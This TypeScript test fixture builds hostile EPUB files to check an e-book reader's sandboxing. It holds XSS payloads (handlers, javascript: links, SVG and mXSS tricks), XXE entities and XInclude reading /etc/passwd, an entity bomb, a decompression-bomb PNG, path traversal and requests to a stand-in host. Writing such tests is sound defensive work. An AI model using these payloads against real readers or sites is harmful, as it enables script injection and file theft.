import { crc32, deflateSync } from 'node:zlib';
import { elsewhere } from './elsewhere.ts';
import { container, epubOf } from './epub-of.ts';
import { zipOf } from './zip-of.ts';

/** Each would show as a changed title, a dialog, or a request. */
const running = `
<script>parent.document.title = 'TAKEN'; fetch('${elsewhere}/script')</script>
<script src="${elsewhere}/script.js"></script>
<p onclick="parent.document.title='TAKEN'" onmouseover="parent.document.title='TAKEN'">hover</p>
<img src="missing.png" onerror="parent.document.title='TAKEN'"/>
<body onload="parent.document.title='TAKEN'"/>
<svg xmlns="http://www.w3.org/2000/svg" onload="parent.document.title='TAKEN'"><script>parent.document.title='TAKEN'</script>
<animate onbegin="parent.document.title='TAKEN'" attributeName="x" dur="1s"/>
<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="&lt;script>parent.parent.document.title='TAKEN'&lt;/script>"/></foreignObject></svg>
<iframe src="javascript:parent.document.title='TAKEN'"></iframe>
<iframe src="${elsewhere}/frame"></iframe>
<object data="${elsewhere}/object"></object><embed src="${elsewhere}/embed"/>
<a href="javascript:parent.document.title='TAKEN'">a script link</a>
<a href="&#106;avascript:parent.document.title='TAKEN'">a hidden script link</a>
<a href="data:text/html,&lt;script>1&lt;/script>">a data link</a>
<a href="${elsewhere}/link" target="_top">a link elsewhere</a>
<form action="${elsewhere}/form"><input name="password" autofocus="" onfocus="parent.document.title='TAKEN'"/><button>Send</button></form>
<video src="${elsewhere}/video" autoplay="" onerror="parent.document.title='TAKEN'"></video><audio src="${elsewhere}/audio"></audio>
<math><mtext><table><mglyph><style><img src="x" onerror="parent.document.title='TAKEN'"/></style></mglyph></table></mtext></math>
<noscript><p title="&lt;/noscript>&lt;img src=x onerror=parent.document.title='TAKEN'>">x</p></noscript>
<details ontoggle="parent.document.title='TAKEN'" open="">details</details>`;

const loading = `
<img src="${elsewhere}/picture.png"/><img src="//elsewhere.invalid/picture.png"/>
<img srcset="${elsewhere}/set.png 2x"/><picture><source srcset="${elsewhere}/source.png"/></picture>
<p style="background:url(${elsewhere}/style.png)">styled</p>
<svg xmlns="http://www.w3.org/2000/svg"><image xlink:href="${elsewhere}/svg.png"/><use href="${elsewhere}/use.svg#x"/></svg>
<img src="/api/users/me"/><img src="../../../api/users/me"/>`;

const loadingHead = `<meta http-equiv="refresh" content="0;url=${elsewhere}/refresh"/><base href="${elsewhere}/"/>
<link rel="stylesheet" href="${elsewhere}/style.css"/><link rel="preload" as="image" href="${elsewhere}/preload.png"/>
<link rel="prefetch" href="${elsewhere}/prefetch"/><link rel="dns-prefetch" href="${elsewhere}"/>
<style>@import url(${elsewhere}/import.css); @font-face{font-family:x;src:url(${elsewhere}/font.woff2)} body{font-family:x;background:url(${elsewhere}/background.png)}</style>`;

const bomb = `<!DOCTYPE html [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">
<!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;"><!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;"><!ENTITY f "&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;">
<!ENTITY g "&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;"><!ENTITY h "&g;&g;&g;&g;&g;&g;&g;&g;&g;&g;">]>`;

const xxe = `<!DOCTYPE html [<!ENTITY file SYSTEM "file:///etc/passwd"><!ENTITY net SYSTEM "${elsewhere}/entity">
<!ENTITY % dtd SYSTEM "${elsewhere}/outer.dtd"> %dtd;]>`;

const drawing = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="parent.document.title='TAKEN'">
<script>parent.document.title='TAKEN'; fetch('${elsewhere}/svg-script')</script><image xlink:href="${elsewhere}/svg-image.png"/></svg>`;

function pngChunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type), data]);
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const sum = Buffer.alloc(4);
  sum.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, sum]);
}

/** A PNG of that size, of one colour; small as a file. */
function hugePng(side: number): Buffer {
  const head = Buffer.alloc(13);
  head.writeUInt32BE(side, 0);
  head.writeUInt32BE(side, 4);
  // One bit a point, grey.
  head.set([1, 0, 0, 0, 0], 8);
  const rows = deflateSync(Buffer.alloc((Math.ceil(side / 8) + 1) * side));
  return Buffer.concat([
    Buffer.from('89504e470d0a1a0a', 'hex'),
    pngChunk('IHDR', head),
    pngChunk('IDAT', rows),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

/** By what they try. The text 'still here' stands in each chapter that can be read. */
export const hostileEpubs: Record<string, () => Buffer> = {
  'scripts and handlers': () =>
    epubOf({
      chapters: [`<p>still here</p>${running}`],
      head: `<script>parent.document.title='TAKEN'</script>`,
    }),
  'pictures, fonts and styles from elsewhere': () =>
    epubOf({ chapters: [`<p>still here</p>${loading}`], head: loadingHead }),
  'an entity bomb': () => epubOf({ doctype: bomb, chapters: ['<p>still here &h;</p>'] }),
  'external entities': () => epubOf({ doctype: xxe, chapters: ['<p>still here &file; &net;</p>'] }),
  'elements nested 100,000 deep': () =>
    epubOf({ chapters: [`<p>still here</p>${'<div>'.repeat(100_000)}deep${'</div>'.repeat(100_000)}`] }),
  'a picture of 20,000 by 20,000': () =>
    epubOf({
      chapters: ['<p>still here</p><img src="huge.png" alt="a wall"/>'],
      files: [{ name: 'OPS/huge.png', data: hugePng(20_000) }],
    }),
  'markup that ends nowhere': () => epubOf({ chapters: ['<p>still here</p><![CDATA[ <b <a href="x'] }),
  'a chapter that is a drawing, and a picture with a script': () =>
    epubOf({
      chapters: [
        `<p>still here</p><img src="drawing.svg" alt="drawing"/><img src="drawing.png" alt="drawing"/>`,
      ],
      files: ['drawing.svg', 'drawing.png'].map((file) => ({ name: `OPS/${file}`, data: drawing })),
    }),
  'names of objects of the page': () =>
    epubOf({
      chapters: [
        `<p>still here</p>${[
          '__proto__',
          'constructor',
          'body',
          'documentElement',
          'defaultView',
          'adoptedStyleSheets',
          'getElementById',
        ]
          .map(
            (id) =>
              `<p id="${id}">x</p><a name="${id}" id="${id}" href="#${id}">x</a><img name="${id}" id="${id}" src="x.png"/>`,
          )
          .join('')}`,
      ],
    }),
  'a chapter of 150,000 elements': () =>
    epubOf({ chapters: [`<p>still here</p>${'<p>a</p>'.repeat(75_000)}`, '<p>still here</p>'] }),
  'a package, contents and chapters from elsewhere': () => elsewhereEpub(),
  'drawings that change their links, and styles in attributes': () =>
    epubOf({
      chapters: [
        `<p>still here</p><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><a>
<animate attributeName="href" to="javascript:parent.document.title='TAKEN'" begin="0s" fill="freeze"/><set attributeName="xlink:href" to="javascript:parent.document.title='TAKEN'"/><text>a script link</text></a>
<use href="data:image/svg+xml,&lt;svg id='x' xmlns='http://www.w3.org/2000/svg'&gt;&lt;image href='${elsewhere}/use'/&gt;&lt;/svg&gt;#x"/><feImage href="${elsewhere}/filter"/>
<style>*{--x:url(${elsewhere}/variable);background:var(--x)}</style></svg>
<p style="--a:url(${elsewhere}/own);background:var(--a);list-style-image:url(${elsewhere}/list);cursor:url(${elsewhere}/cursor),auto">styled</p>
<table background="${elsewhere}/table"><tr><td background="${elsewhere}/cell">x</td></tr></table><video poster="${elsewhere}/poster"><track src="${elsewhere}/track.vtt" default=""/></video>
<input type="image" src="${elsewhere}/input"/><portal src="${elsewhere}/portal"/><link rel="preconnect" href="${elsewhere}"/>`,
      ],
    }),
  '10,000 sections': () =>
    epubOf({
      chapters: Array.from({ length: 4_000 }, (_, n) => `<p>still here ${n + 1}</p>`),
      sections: 10_000,
    }),
};

/** An EPUB whose package, contents and chapters lead elsewhere. */
const elsewhereEpub = () =>
  zipOf([
    { name: 'mimetype', data: 'application/epub+zip' },
    { name: 'META-INF/container.xml', data: container },
    {
      name: 'OPS/book.opf',
      data: `<?xml-stylesheet type="text/xsl" href="${elsewhere}/package.xsl"?><package xmlns="http://www.idpf.org/2007/opf">
<metadata><link rel="record" href="${elsewhere}/record"/></metadata><manifest><item id="web" href="${elsewhere}/chapter.xhtml"/>
<item id="machine" href="file:///etc/passwd"/><item id="above" href="../../../../etc/passwd"/><item id="c" href="c.xhtml" media-overlay="s"/>
<item id="s" href="${elsewhere}/overlay.smil"/><item id="nav" properties="nav" href="nav.xhtml"/><item id="drawing" href="drawing.svg" media-type="image/svg+xml"/>
<item id="xml" href="chapter.xml"/></manifest><bindings><mediaType handler="c" media-type="x/y"/></bindings>
<spine>${['web', 'machine', 'above', 'c', 'drawing', 'xml'].map((id) => `<itemref idref="${id}"/>`).join('')}</spine></package>`,
    },
    {
      name: 'OPS/nav.xhtml',
      data: `<html xmlns:epub="x"><body><nav epub:type="toc"><ol><li><a href="javascript:parent.document.title='TAKEN'">a script link</a></li><li><a href="${elsewhere}">web</a></li><li><a href="c.xhtml">here</a></li></ol></nav></body></html>`,
    },
    {
      name: 'OPS/c.xhtml',
      data: `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="page.xsl"?><html xmlns="http://www.w3.org/1999/xhtml" xmlns:xi="http://www.w3.org/2001/XInclude" manifest="${elsewhere}/manifest"><body><p>still here</p>
<xi:include href="file:///etc/passwd" parse="text"/><xi:include href="${elsewhere}/include"/><a ping="${elsewhere}/ping" href="#x" id="x">a script link</a>
<a href="ms-word:ofe|u|${elsewhere}/x.docx">a link elsewhere</a><a href="/api/auth/logout">log out</a><a href="\\\\elsewhere.invalid\\x">share</a>
<img src="page.html"/><img src="both.gif"/><img src="file:///etc/passwd"/><img src="../../../../../../uploads/x"/></body></html>`,
    },
    { name: 'OPS/drawing.svg', data: drawing },
    { name: 'OPS/chapter.xml', data: '<?xml-stylesheet type="text/xsl" href="page.xsl"?><r>still here</r>' },
    {
      name: 'OPS/page.xsl',
      data: `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><script>parent.document.title='TAKEN'</script></xsl:template></xsl:stylesheet>`,
    },
    { name: 'OPS/page.html', data: `<script>parent.document.title='TAKEN'</script>` },
    { name: 'OPS/both.gif', data: `GIF89a/*<script>parent.document.title='TAKEN'</script>*/` },
  ]);

/** They say that they cannot be shown, and offer the download. */
export const unreadableEpubs: Record<string, () => Buffer> = {
  'a protected EPUB': () =>
    epubOf({
      chapters: ['<p>still here</p>'],
      files: [
        {
          name: 'META-INF/encryption.xml',
          data: '<encryption xmlns:enc="x"><enc:CipherReference URI="OPS/c1.xhtml"/></encryption>',
        },
      ],
    }),
};
